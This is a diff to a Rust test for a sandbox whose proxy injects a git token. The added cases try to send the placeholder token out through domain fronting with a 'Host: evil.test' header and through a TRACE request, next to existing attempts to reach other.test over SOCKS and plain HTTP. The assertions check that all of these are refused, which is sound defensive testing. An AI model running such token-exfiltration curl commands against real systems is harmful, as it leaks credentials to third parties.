@@ -189,6 +189,8 @@ fn git_push_uses_the_injected_token_and_the_jail_never_reads_it() {
          echo \"== push\"; git push -q origin HEAD:main 2>&1; echo \"rc=$?\"
          PH=$(sed -n 's#https://me:\\(csb-ph-[0-9a-f]*\\)@git.test.*#\\1#p' ~/.git-credentials)
          echo \"== foreign\"; curl -sS -m 10 -H \"Authorization: Bearer $PH\" https://other.test:{port}/x 2>&1; echo \" rc=$?\"
+         echo \"== fronted\"; curl -sS -m 10 -H \"Host: evil.test\" -H \"Authorization: Bearer $PH\" https://git.test:{port}/fronted 2>&1; echo \" rc=$?\"
+         echo \"== trace\"; curl -sS -m 10 -X TRACE -H \"Authorization: Bearer $PH\" https://git.test:{port}/traced 2>&1; echo \" rc=$?\"
          echo \"== unverified\"; curl -sS -m 10 https://unverified.test:{port}/unverified 2>&1; echo \" rc=$?\"
          echo \"== socks\"; curl -sS -m 10 --socks5-hostname 127.0.0.1:3128 -H \"Authorization: Bearer $PH\" https://other.test:{port}/x 2>&1; echo \" rc=$?\"
          echo \"== plain\"; curl -sS -m 10 -H \"X-Token: $PH\" http://other.test:{}/x 2>&1; echo \" rc=$?\"
@@ -262,6 +264,13 @@ fn git_push_uses_the_injected_token_and_the_jail_never_reads_it() {
     );
     assert!(section("plain").contains(guard), "{out}");
     assert!(section("socks").contains(guard), "{out}");
+    // Its own host, but named otherwise (domain fronting), or asked to echo the request: refused.
+    assert!(section("fronted").contains(guard), "{out}");
+    assert!(section("trace").contains(guard), "{out}");
+    assert!(
+        !seen.contains("/fronted") && !seen.contains("/traced"),
+        "{seen}"
+    );
     // The proxy verifies the host it sends a real value to: the test server's certificate does not
     // name unverified.test, so nothing is sent and the client hears why.
     assert!(
